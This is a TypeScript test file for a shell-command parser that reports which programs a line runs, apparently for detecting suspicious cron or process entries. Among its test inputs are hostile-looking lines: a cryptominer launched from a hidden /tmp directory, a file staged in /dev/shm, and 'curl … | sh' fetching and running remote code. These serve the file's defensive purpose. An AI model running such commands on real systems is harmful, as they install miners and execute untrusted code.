import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { programsIn } from './run-programs.ts';
import { commandsIn } from './words.ts';

const images = (line: string): readonly string[] => programsIn(line).map(({ image }) => image);

describe('when a line of shell is read', () => {
  it.each([
    ['ls -la', ['ls']],
    ['/tmp/.x/watch.sh >/dev/null 2>&1', ['/tmp/.x/watch.sh']],
    ['cd /tmp/.x && nohup ./xmrig -o pool >/dev/null 2>&1 &', ['/tmp/.x/xmrig']],
    [
      "/bin/sh -c 'mkdir -p /dev/shm/.ICE && cp /a/.helper /dev/shm/.ICE/kw'",
      ['/bin/sh', 'mkdir', 'cp'],
    ],
    ['sudo -u www-data FOO=1 nice -n 5 /opt/app/run --x', ['/opt/app/run']],
    ['python3 /dev/shm/a.py', ['python3', '/dev/shm/a.py']],
    ['bash /var/tmp/run.sh', ['bash', '/var/tmp/run.sh']],
    ['. /tmp/env', ['/tmp/env']],
    ['timeout 10 flock /var/lock/x /usr/local/bin/job', ['/usr/local/bin/job']],
    ['[ -x /usr/sbin/anacron ] || { cd / && run-parts /etc/cron.daily; }', ['[', 'run-parts']],
    ['echo "a;b" | tee -a /tmp/x; id', ['echo', 'tee', 'id']],
    ['a=$(/tmp/evil arg)', ['/tmp/evil']],
    ['# /tmp/commented', []],
    ['curl -s http://192.0.2.1/x | sh', ['curl', 'sh']],
    ['/usr/local/bin/backup.sh > /tmp/backup.log', ['/usr/local/bin/backup.sh']],
    ['find /tmp -mtime +7 -delete', ['find']],
  ])('says of %j what it runs', (line, expected) => {
    expect(images(line)).toEqual(expected);
  });

  it('F-72 ends for every line, however it nests', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400, unit: 'binary' }), (line) => {
        expect(Array.isArray(commandsIn(line))).toBe(true);
        expect(Array.isArray(programsIn(line))).toBe(true);
      }),
    );
    const nested = `${"sh -c '".repeat(50)}id${"'".repeat(50)}`;
    expect(images(nested).length).toBeLessThan(100);
  });
});
